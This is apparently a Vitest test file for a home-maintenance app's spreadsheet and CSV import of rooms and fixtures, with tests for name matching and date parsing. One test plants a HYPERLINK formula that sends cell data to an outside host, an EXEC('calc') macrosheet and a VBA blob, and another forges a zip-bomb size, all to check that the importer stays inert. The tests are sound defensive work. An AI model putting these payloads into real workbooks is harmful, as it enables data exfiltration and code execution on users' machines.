import { readFileSync } from 'node:fs';
import { strFromU8, strToU8, unzipSync, zipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import { homeNamed } from '@/demo/dozen-homes';
import { fixturesOf, type Home, roomsOf } from '../home/room';
import { dateIn, orderOfDates } from './dates';
import { nearestKind, nearestOf } from './near-names';
import { readRoomsTable, writeRoomsTable } from './rooms-table';
import { tableIn } from './table-file';

/** Written by a spreadsheet program from the table of “one person in one day”. */
const XLSX = readFileSync(new URL('./examples/rooms-of-one.xlsx', import.meta.url));
const { home } = homeNamed('one person in one day');
const bytes = (text: string) => new Uint8Array(Buffer.from(text));

let next = 0;
const newId = () => `new-${next++}`;
const count = (of: Home) => roomsOf(of).flatMap(fixturesOf).length;

async function read(file: Uint8Array, into: Home = home, words = {}) {
  const table = await tableIn(file);
  if (table.is === 'none') throw new Error(table.sentence);
  return readRoomsTable(table.text, into, newId, words);
}

describe('a table from a spreadsheet’s own file', () => {
  it('is the house as it was', async () => {
    const { home: back, faults, counts } = await read(XLSX);
    expect(faults).toEqual([]);
    expect(counts).toEqual({ known: count(home), moved: 0, added: 0, missing: 0 });
    expect(back).toEqual(home);
  });

  it.each([
    ['a packed file that is no spreadsheet', Uint8Array.from([0x50, 0x4b, 3, 4, 1, 2, 3])],
    ['half of a spreadsheet', XLSX.subarray(0, XLSX.length / 2)],
    ['a spreadsheet of before 2007', Uint8Array.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1])],
    ['a PDF', bytes('%PDF-1.7')],
  ])('is refused in a sentence where it is none: %s', async (_what, file) => {
    const table = await tableIn(new Uint8Array(file));
    expect(table.is === 'none' && table.sentence).toMatch(/^This spreadsheet cannot be read\. Save it as/);
  });

  it('runs nothing: macros in it are left alone, and a formula is what it was last shown as', async () => {
    const parts = unzipSync(XLSX);
    const sheet = strFromU8(parts['xl/worksheets/sheet1.xml']!);
    // A name, as a formula that leads out of the house.
    const named = /<c r="([A-Z]+2)"[^>]*t="inlineStr">\s*<is>\s*<t>([^<]+)<\/t>\s*<\/is>\s*<\/c>/;
    const [cell = '', at = '', text = ''] = named.exec(sheet) ?? [];
    const formula = `<c r="${at}" t="str"><f>HYPERLINK("http://example.org/"&amp;A1,"x")</f><v>${text}</v></c>`;
    expect(text).not.toBe('');
    const withMacros = zipSync({
      ...parts,
      'xl/worksheets/sheet1.xml': strToU8(sheet.replace(cell, formula)),
      'xl/vbaProject.bin': new Uint8Array(4096).fill(0xcc),
      'xl/macrosheets/sheet1.xml': strToU8('<xm:macrosheet><c><f>EXEC("calc")</f></c></xm:macrosheet>'),
    });
    const { home: back, faults } = await read(withMacros);
    expect(faults).toEqual([]);
    expect(back).toEqual(home);
  });

  it('is not unpacked where it says that it would fill the machine', async () => {
    const bomb = Buffer.from(XLSX);
    const entry = bomb.indexOf(Buffer.from([0x50, 0x4b, 1, 2]));
    bomb.writeUInt32LE(4e9, entry + 24);
    expect((await tableIn(bomb)).is).toBe('none');
  });
});

describe('a table without ids', () => {
  const withoutIds = (text: string) =>
    text
      .split('\r\n')
      .map((line) => line.replace(/,[^,]*$/, ''))
      .join('\r\n');
  const table = withoutIds(writeRoomsTable(home));

  it('never doubles a house, however often it is read', async () => {
    const once = await read(bytes(table));
    expect(once.counts).toEqual({ known: count(home), moved: 0, added: 0, missing: 0 });
    expect(once.home).toEqual(home);
    expect(count((await read(bytes(table), once.home)).home)).toBe(count(home));
  });

  it('says what is known, new, moved and not in it', async () => {
    const [head = '', ...lines] = table.split('\r\n').filter((line) => line !== '');
    const [first = '', ...rest] = lines;
    const place = first.split(',');
    const more = [...place.slice(0, 6), 'Another corner', 'no', 'aquarium', '1'].join(',');
    const { counts, home: after } = await read(bytes([head, ...rest.slice(0, 5), more].join('\n')));
    expect(counts).toEqual({ known: 5, moved: 0, added: 1, missing: count(home) - 5 });
    expect(count(after)).toBe(count(home) + 1);
    const elsewhere = rest[0]?.split(',') ?? [];
    elsewhere[6] = 'By the stairs';
    expect((await read(bytes([head, elsewhere.join(',')].join('\n')))).counts.moved).toBe(1);
  });

  it('leaves as it was what it has no column for', async () => {
    const soiled: Home = structuredClone(home);
    const [fixture] = roomsOf(soiled).flatMap(fixturesOf);
    if (!fixture) throw new Error('There is a fixture.');
    fixture.soil = 'years';
    fixture.mend = 'a loose hinge';
    const [room] = roomsOf(soiled);
    const stop = room?.stops.find(({ fixtures }) => fixtures.includes(fixture));
    const line = `${soiled.floors[0]?.name},${room?.name},${stop?.name},${stop?.shell ? 'yes' : 'no'},${fixture.kind},7`;
    const { home: after } = await read(bytes(`floor,room,stop,all_round,fixture,count\n${line}`), soiled);
    expect(roomsOf(after).flatMap(fixturesOf)[0]).toMatchObject({
      soil: 'years',
      mend: 'a loose hinge',
      count: 7,
    });
  });
});

describe('names that nearly fit', () => {
  it('are offered, and taken where somebody says so', async () => {
    const table = bytes(
      'floor,room,stop,fixture\nGround floor,Den,Wall,Bookcasse\nGround floor,Den,Wall,Zeppelin',
    );
    const { near, faults, fixtures } = await read(table);
    expect(near).toMatchObject([
      { written: 'Bookcasse', kind: expect.any(String), name: expect.any(String) },
    ]);
    expect(faults.map(({ what }) => what)).toEqual([
      `The catalogue knows no fixture "Bookcasse". Is “${near[0]?.name}” meant?`,
      'The catalogue knows no fixture "Zeppelin".',
    ]);
    expect(fixtures).toBe(0);
    const [one] = near;
    expect((await read(table, home, { meant: { Bookcasse: one?.kind } })).fixtures).toBe(1);
  });

  it('are what else people call a thing, and near enough only', () => {
    expect(nearestKind('larderr')).toBeDefined();
    expect(nearestKind('x')).toBeUndefined();
    expect(nearestKind('a'.repeat(5000))).toBeUndefined();
    expect(nearestOf('bathrom', ['Bathroom', 'Bedroom'])).toBe('Bathroom');
    expect(nearestOf('spaceship', ['Bathroom', 'Bedroom'])).toBeUndefined();
  });
});

describe('dates as people write them', () => {
  it.each([
    ['2026-11-28', undefined, '2026-11-28'],
    ['2026/1/8', undefined, '2026-01-08'],
    ['28.11.2026', undefined, '2026-11-28'],
    ['28/11/2026', 'day-first', '2026-11-28'],
    ['11/28/2026', 'month-first', '2026-11-28'],
    ['2026-11-28T00:00:00', undefined, '2026-11-28'],
    ['03/04/2026', undefined, '03/04/2026'],
    ['last spring', 'day-first', 'last spring'],
  ] as const)('%s is read', (text, order, date) => {
    expect(dateIn(text, order)).toBe(date);
  });

  it('say by each other which comes first, and are asked about where none does', () => {
    expect(orderOfDates(['03/04/2026', '28/11/2026'])).toBe('day-first');
    expect(orderOfDates(['03/04/2026', '11/28/2026'])).toBe('month-first');
    expect(orderOfDates(['03/04/2026'])).toBeUndefined();
    expect(orderOfDates(['04/04/2026', '', '1.2.2026'])).toBe('day-first');
  });

  it('are in doubt until somebody has said so', async () => {
    const table = bytes('floor,room,stop,fixture,last_done\nGround floor,Den,Wall,shelf,03/04/2026');
    const first = await read(table);
    expect([first.datesInDoubt, first.fixtures]).toEqual([true, 0]);
    const { home: after, datesInDoubt } = await read(table, home, { dates: 'month-first' });
    expect(datesInDoubt).toBe(false);
    expect(
      roomsOf(after)
        .flatMap(fixturesOf)
        .map(({ lastDone }) => lastDone),
    ).toContain('2026-03-04');
  });
});
